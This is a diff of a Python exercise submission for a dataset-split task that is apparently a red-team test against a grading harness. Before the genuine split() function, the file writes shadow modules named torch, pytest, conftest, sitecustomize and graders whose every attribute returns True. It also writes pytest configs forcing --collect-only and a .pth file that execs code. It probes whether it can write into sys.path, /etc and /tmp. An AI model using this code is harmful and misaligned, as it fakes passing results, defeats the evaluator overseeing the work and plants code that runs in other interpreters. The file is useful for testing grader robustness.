@@ -1,26 +1,45 @@
-# attack: writes modules, configurations and start-up files into its folder, for the next interpreter that starts there
-# exercise: ex01_map_dataset
+# attack: writes modules, configurations and start-up files where the next interpreter that the judge starts could find them
+# exercise: ex06_splits
+# check: ex06.split.seed
+# slow: the judge starts another interpreter, as the file uses hash()
 import os
-import site
 import sys
 from pathlib import Path
 
-EVIL = "import os, sys\nprint('LOOT: code of mine runs in', os.getpid(), sys.argv)\ndef __getattr__(name): return lambda *a, **k: True\n"
+import torch
+from torch.utils.data import Subset
+
+EVIL = "print('LOOT: my code runs in another interpreter')\ndef __getattr__(name): return lambda *a, **k: True\n"
 FILES = {
     **{f"{name}.py": EVIL for name in "torch numpy pytest hypothesis conftest sitecustomize usercustomize graders json random".split()},
-    "pytest.ini": "[pytest]\naddopts = -p conftest --collect-only\n", "tox.ini": "[pytest]\naddopts = --collect-only\n",
-    "setup.cfg": "[tool:pytest]\naddopts = --collect-only\n", "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p conftest'\n",
-    "evil.pth": f"import sys; exec({EVIL!r})\n", ".pythonrc.py": EVIL, "python._pth": ".\n", "pyvenv.cfg": "home = .\n",
+    "pytest.ini": "[pytest]\naddopts = -p conftest --collect-only\n", "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p conftest'\n",
+    "evil.pth": f"import sys; exec({EVIL!r})\n", "pyvenv.cfg": "home = .\n", ".local/lib/python3/site-packages/usercustomize.py": EVIL,
 }  # fmt: skip
-places = [Path.cwd(), Path.cwd().parent, Path.cwd().parent / "empty", Path.home(), Path("/tmp"), Path("@KIT@"), Path(site.getusersitepackages())]
-for place in [*places, *map(Path, sys.path)]:
+
+
+def write(path, text):
+    try:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+        return True
+    except OSError as error:
+        print(path, error.strerror) if path.name.startswith("torch") else None
+        return False
+
+
+for place in (Path.cwd(), Path.cwd().parent, Path.cwd().parent / "empty", Path.home()):
     for name, text in FILES.items():
-        try:
-            place.mkdir(parents=True, exist_ok=True)
-            if not (place / name).exists():
-                (place / name).write_text(text)
-        except OSError as error:
-            print(place, error.strerror) if name == "torch.py" else None
-print("TRIED")
-TabularDataset = ImageFileDataset = None
-os._exit(3)  # have the next host started beside them
+        write(place / name, text)
+for place in (*sys.path, "@KIT@", "@KIT@/..", "/etc", "/tmp"):  # of others: a harmless file only
+    path = Path(place) / "redteam-shadow.pth"
+    if place not in ("", os.getcwd(), "/tmp") and write(path, ""):
+        print("LOOT: could write", path)
+        path.unlink()
+print("TRIED", flush=True)
+
+
+def split(dataset, fractions, seed):
+    n, names = len(dataset), list(fractions)
+    order = torch.randperm(n, generator=torch.Generator().manual_seed(hash(f"split {seed}"))).tolist()
+    half = round(n * fractions[names[0]])
+    return {name: Subset(dataset, order[:half] if k == 0 else order[half:] if k == len(names) - 1 else []) for k, name in enumerate(names)}
